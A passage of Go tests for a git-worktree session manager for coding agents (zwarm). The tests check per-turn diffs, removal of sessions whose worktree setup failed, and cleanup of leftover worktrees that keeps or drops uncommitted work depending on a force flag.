	w.agent("echo c > c.txt")
	if _, err := w.Manager.Inject(ctx, s.ID, "turn two"); err != nil {
		t.Fatal(err)
	}
	s = w.wait(s.ID)
	if len(s.Turns) != 2 || s.Turns[1].From != merge || !reflect.DeepEqual(s.Turns[1].Files, []string{"c.txt"}) {
		t.Fatalf("turn 2 from %q (the merge is %s), files %v", s.Turns[1].From, merge, s.Turns[1].Files)
	}
	turn := func(n int) sessions.DiffRequest { r := names; r.Turn = n; return r }
	if d := w.diff(s.ID, turn(2)); d != "c.txt\n" {
		t.Errorf("turn 2's diff names %q, want only c.txt", d)
	}
	if d := w.diff(s.ID, turn(1)); d != "a.txt\n" {
		t.Errorf("turn 1's diff names %q", d)
	}
	if d := w.diff(s.ID, names); d != "a.txt\nc.txt\n" {
		t.Errorf("the whole change names %q, want the worker's files, not the base's", d)
	}
	if d := w.diff(s.ID, sessions.DiffRequest{Turn: 2}); !strings.Contains(d, "+c") || strings.Contains(d, "b1") {
		t.Errorf("turn 2's diff:\n%s", d)
	}
}

// 11. A session whose worktree could not be made has nothing of a
// worker's to lose: rm takes it without --force.
func TestASessionWhoseWorktreeFailedGoesWithoutForce(t *testing.T) {
	t.Parallel()
	t.Run("setup failed", func(t *testing.T) {
		w := repoWorld(t, map[string]string{"a": "a\n"})
		w.WriteConfig("kill_grace = \"300ms\"\n[worktrees]\nsetup = \"touch built.o; echo broken; exit 3\"\n")
		s := w.wait(w.spawnIn(w.Work, "never runs", sessions.SpawnRequest{}).ID)
		if s.Status() != record.StatusFailed || s.Workspace.State != record.WorkspaceFailed {
			t.Fatalf("%s, worktree %s", s.Status(), s.Workspace.State)
		}
		if _, err := w.Manager.Remove(context.Background(), s.ID, false); err != nil {
			t.Fatalf("rm: %v", err)
		}
		if _, err := os.Stat(s.Workspace.Path); !os.IsNotExist(err) || git(t, w.Work, "branch", "--list", "zwarm/*") != "" {
			t.Error("rm left the worktree or its branch")
		}
		if _, err := w.Manager.Get(context.Background(), s.ID); !errors.Is(err, sessions.ErrNotFound) {
			t.Errorf("the session is still there: %v", err)
		}
	})
	t.Run("the worktrees dir cannot be made", func(t *testing.T) {
		w := repoWorld(t, map[string]string{"a": "a\n"})
		blocker := filepath.Join(t.TempDir(), "a-file")
		writeFile(t, blocker, "not a directory\n")
		w.WriteConfig("kill_grace = \"300ms\"\n[worktrees]\ndir = \"" + filepath.Join(blocker, "wt") + "\"\n")
		s := w.wait(w.spawnIn(w.Work, "never runs", sessions.SpawnRequest{}).ID)
		if s.Status() != record.StatusFailed || s.Workspace.State != record.WorkspaceFailed {
			t.Fatalf("%s, worktree %s", s.Status(), s.Workspace.State)
		}
		if _, err := w.Manager.Remove(context.Background(), s.ID, false); err != nil {
			t.Fatalf("rm: %v", err)
		}
		if _, err := w.Manager.Get(context.Background(), s.ID); !errors.Is(err, sessions.ErrNotFound) {
			t.Errorf("the session is still there: %v", err)
		}
	})
}

// 12. A worktree whose session record is gone is a leftover: cleaning it
// commits its uncommitted work onto its branch, and keeps the branch,
// unless forced.
func TestCleanLeftoversKeepsUncommittedWorkOnTheBranch(t *testing.T) {
	t.Parallel()
	w := repoWorld(t, map[string]string{"a.txt": "a\n"})
	ctx := context.Background()
	w.agent("echo w > w.txt")
	s := w.wait(w.spawnIn(w.Work, "add w", sessions.SpawnRequest{}).ID)
	ws := s.Workspace
	writeFile(t, filepath.Join(ws.Path, "late.txt"), "after the last turn\n")
	writeFile(t, filepath.Join(ws.Path, "a.txt"), "a, edited\n")
	if err := w.Store.Remove(context.Background(), s.ID); err != nil {
		t.Fatal(err)
	}
	left, err := w.Manager.Leftovers(ctx, w.Work)
	if err != nil || len(left) != 1 || left[0].ID != s.ID || !left[0].Registered {
		t.Fatalf("leftovers: %+v %v", left, err)
	}
	removed, kept, err := w.Manager.CleanLeftovers(ctx, w.Work, false)
	if err != nil || len(removed) != 1 || len(kept) != 1 || kept[0].Branch != ws.Branch {
		t.Fatalf("clean --worktrees: removed %+v kept %+v: %v", removed, kept, err)
	}
	if _, err := os.Stat(ws.Path); !os.IsNotExist(err) {
		t.Error("the leftover worktree is still there")
	}
	log := git(t, w.Work, "log", "--format=%an|%s", ws.BaseCommit+".."+ws.Branch)
	if log != "zwarm|zwarm: uncommitted work of a worktree whose session is gone\nzwarm|zwarm "+record.ShortID(s.ID)+" turn 1: add w" {
		t.Fatalf("the kept branch's log: %q", log)
	}
	if got := git(t, w.Work, "show", "--name-only", "--format=", ws.Branch); got != "a.txt\nlate.txt" {
		t.Errorf("the leftover's last commit holds %q", got)
	}
	if git(t, w.Work, "show", ws.Branch+":late.txt") != "after the last turn" || git(t, w.Work, "show", ws.Branch+":a.txt") != "a, edited" {
		t.Error("the uncommitted work is not on the branch as it was")
	}
	if left, _ := w.Manager.Leftovers(ctx, w.Work); len(left) != 0 {
		t.Errorf("leftovers after cleaning: %+v", left)
	}

	// Forced, the work goes with the worktree and the branch.
	s = w.wait(w.spawnIn(w.Work, "add w again", sessions.SpawnRequest{}).ID)
	writeFile(t, filepath.Join(s.Workspace.Path, "late.txt"), "dropped\n")
	if err := w.Store.Remove(context.Background(), s.ID); err != nil {
		t.Fatal(err)
	}
	removed, kept, err = w.Manager.CleanLeftovers(ctx, w.Work, true)
	if err != nil || len(removed) != 1 || len(kept) != 0 {
		t.Fatalf("clean --worktrees --force: removed %+v kept %+v: %v", removed, kept, err)
	}
	if _, err := os.Stat(s.Workspace.Path); !os.IsNotExist(err) || git(t, w.Work, "branch", "--list", s.Workspace.Branch) != "" {
		t.Error("a forced clean left the worktree or the branch")
	}
	if git(t, w.Work, "branch", "--list", ws.Branch) == "" {
		t.Error("the forced clean took the branch kept before")
	}
}

// 12b. A leftover's record of what was brought along went with its
// session: its last commit leaves out what the settings bring instead (a
// node_modules symlink that a "node_modules/" line of .gitignore does
// not cover, as git matches that only to a directory).
func TestCleanLeftoversLeavesWhatWasBroughtAlongOut(t *testing.T) {
	t.Parallel()
	w := repoWorld(t, map[string]string{".gitignore": ".env\nnode_modules/\n", "a": "a\n"})
	ctx := context.Background()
	writeFile(t, filepath.Join(w.Work, ".env"), "TOKEN=1\n")
	writeFile(t, filepath.Join(w.Work, "node_modules", "m.js"), "x\n")
	w.WriteConfig("[worktrees]\ncopy = [\".env\"]\nsymlink = [\"node_modules\"]\n")
	w.agent("echo w > w.txt")
	s := w.wait(w.spawnIn(w.Work, "add w", sessions.SpawnRequest{}).ID)
	ws := s.Workspace
	if fi, err := os.Lstat(filepath.Join(ws.Path, "node_modules")); err != nil || fi.Mode()&os.ModeSymlink == 0 {
		t.Fatalf("node_modules was not linked into the worktree: %v", err)
	}
	writeFile(t, filepath.Join(ws.Path, "late.txt"), "after the last turn\n")
	if err := w.Store.Remove(context.Background(), s.ID); err != nil {
		t.Fatal(err)
	}
	if _, _, err := w.Manager.CleanLeftovers(ctx, w.Work, false); err != nil {
		t.Fatal(err)
	}
	if got := git(t, w.Work, "show", "--name-only", "--format=", ws.Branch); got != "late.txt" {
		t.Errorf("the leftover's last commit holds %q, want late.txt alone", got)
	}
}
